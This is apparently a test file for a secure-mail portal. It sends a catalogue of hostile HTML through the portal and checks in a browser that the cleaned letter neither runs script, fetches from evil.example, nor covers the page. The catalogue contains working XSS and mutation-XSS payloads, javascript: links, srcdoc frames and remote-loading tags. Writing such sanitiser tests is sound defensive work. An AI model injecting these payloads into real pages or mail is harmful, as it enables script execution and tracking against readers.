// Mail that attacks its reader: markup that runs, that changes its meaning when it is read twice (mXSS), that fetches. Each letter is
// sealed and opened like any other; then what its reader gets is put into a page that forbids nothing, so that the cleaning stands
// alone: neither the sandbox of the frame nor the page's policy helps it here.

import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { codeIn, organisation, sealed } from "./portal.mjs";
import { browser } from "./support.mjs";

const RUN = "alert(1)";
const FAR = "https://evil.example";
const HOSTILE = {
  "script": `<script>${RUN}</script>`,
  "script in another case, broken": `<ScRiPt/x>${RUN}</sCrIpT x><script src=${FAR}/x.js></script>`,
  "script behind an unclosed comment": `<!--><script>${RUN}</script>-->`,
  "script in a conditional comment": `<!--[if gte mso 9]><script>${RUN}</script><![endif]-->`,
  "picture with a handler": `<img src=x onerror=${RUN}>`,
  "handler without blanks": `<img/src="x"/onerror=${RUN}>`,
  "handler after a null": `<img src=x one\u0000rror=${RUN} onerror=${RUN}>`,
  "handlers that need nobody": `<details open ontoggle=${RUN}><input autofocus onfocus=${RUN}><body onload=${RUN}><marquee onstart=${RUN}>x</marquee>`,
  "media with handlers": `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  "svg": `<svg onload=${RUN}><script>${RUN}</script><animate onbegin=${RUN} attributeName=x></svg>`,
  "svg that shows HTML": `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  "svg that uses another": `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></use></svg>`,
  "style that closes itself in svg": `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  "style in mathml that becomes markup": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "form in a form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  "annotation that is HTML": `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  "cdata": `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  "noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  "textarea and title": `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea><title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  "xmp, listing, plaintext": `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><listing>&lt;img onerror=${RUN} src=x&gt;</listing><plaintext><img src=x onerror=${RUN}>`,
  "select and template": `<select><template><img src=x onerror=${RUN}></template></select><template><script>${RUN}</script></template>`,
  "table that spills": `<table><tr><td><table><img src=x onerror=${RUN}><caption><svg><style><img src=x onerror=${RUN}>`,
  "deep nesting": `${"<div>".repeat(600)}<img src=x onerror=${RUN}>${"</div>".repeat(600)}`,
  "attribute with a quote that is none": `<p title="x\u0060 onmouseover=${RUN} y=\u0060">x</p><img alt="\`><img src=x onerror=${RUN}>">`,
  "escaped twice": `&lt;img src=x onerror=${RUN}&gt;&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  "links that run": `<a id="l" href="javascript:${RUN}">a</a><a href="jav&#x09;ascript:${RUN}">b</a><a href=" &#14; javascript:${RUN}">c</a><a href="vbscript:x">d</a><a href="data:text/html,<script>${RUN}</script>">e</a>`,
  "forms that run": `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">x</button><input type=image src=x onerror=${RUN}></form>`,
  "frames": `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe><embed src="${FAR}/x.swf"><object data="${FAR}/x"></object>`,
  "page in its place": `<meta http-equiv=refresh content="0;url=${FAR}"><base href="${FAR}/"><link rel=stylesheet href="${FAR}/x.css"><link rel=prefetch href="${FAR}/p">`,
  "pictures from afar": `<img src="${FAR}/1.gif"><img srcset="${FAR}/2.gif 1x"><picture><source srcset="${FAR}/3.gif"><img src=x></picture><input type=image src="${FAR}/4.gif">`,
  "style from afar": `<style>@import url(${FAR}/x.css); p { background: url(${FAR}/5.gif) }</style><p style="background:url('${FAR}/6.gif')">x</p><table background="${FAR}/7.gif"><tr><td>x</table>`,
  "style that hides the page": `<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>`,
  "names that cover ours": `<form id="message" name="body"><input name="attributes"><img name="getElementById"></form><a id="by-hand"></a>`,
  "media from afar": `<video poster="${FAR}/8.gif" src="${FAR}/9.mp4" autoplay></video><audio src="${FAR}/a.mp3" autoplay></audio><track src="${FAR}/t.vtt">`,
  "fonts and icons": `<link rel=icon href="${FAR}/i.ico"><style>@font-face { font-family: x; src: url(${FAR}/f.woff) } body { font-family: x }</style>`,
};
let chromium;
let instance;
let reader;

before(async () => {
  chromium = await browser();
  reader = await chromium.newPage();
  instance = await organisation();
});
after(async () => {
  await chromium?.close();
  await instance?.stop();
});

/** What its reader gets of a letter, without a script of theirs: the document in the frame. */
async function asRead(html) {
  const mail = await sealed(instance, { html: `<p>Brief</p>${html}<p>Einde</p>` });
  const bare = mail.link.split("#")[0];
  const post = (path, fields) => fetch(bare + path, { method: "POST", body: new URLSearchParams(fields) });
  await (await post("/code", {})).arrayBuffer();
  const code = codeIn(await instance.mailbox.next("the code"));
  const shown = await (await post("/open", { code, half: mail.code })).text();
  // The browser says what stands in the attribute; nothing of it is shown or run.
  return reader.evaluate((page) => new DOMParser().parseFromString(page, "text/html").querySelector("iframe").getAttribute("srcdoc"), shown);
}

/** What happens when it is shown where nothing is forbidden; once as it is, and once read and written again by the browser. */
async function harm(document) {
  const done = [];
  const look = async (again) => {
    const context = await chromium.newContext();
    await context.route("**/*", (route) => {
      // Our own style sheet is asked for by every letter.
      if (!/\/static\/openlijk\.[0-9a-f]+\.css$/.test(route.request().url())) done.push(`fetches ${route.request().url()}`);
      return route.abort();
    });
    const page = await context.newPage();
    page.on("dialog", (dialog) => {
      done.push("runs");
      return dialog.dismiss();
    });
    await page.setContent(document.replace("<head>", '<head><base href="https://portal.example/">'), { waitUntil: "domcontentloaded" });
    if (again) await page.evaluate(() => (document.body.innerHTML = `${document.body.innerHTML}`));
    for (const link of await page.locator("a").all()) await link.click({ timeout: 500, noWaitAfter: true }).catch(() => {});
    await page.waitForTimeout(150);
    const covered = await page.evaluate(() => [...document.querySelectorAll("*")].filter((one) => getComputedStyle(one).position === "fixed").length);
    if (covered > 0) done.push("covers the page");
    await context.close();
  };
  await Promise.all([look(false), look(true)]);
  return done;
}

test("what attacks does so where nothing is cleaned (so that the next test can fail)", async () => {
  const found = await Promise.all(["picture with a handler", "pictures from afar", "style that hides the page"].map((name) => harm(`<html><head></head><body>${HOSTILE[name]}</body></html>`)));
  assert.ok(found[0].includes("runs") && found[1].some((done) => done.startsWith("fetches")) && found[2].includes("covers the page"), JSON.stringify(found));
});

for (const [name, html] of Object.entries(HOSTILE)) {
  test(`hostile mail does nothing: ${name}`, async () => {
    const document = await asRead(html);
    assert.ok(document.includes("Brief"), "the letter itself is there");
    assert.deepEqual(await harm(document), []);
  });
}
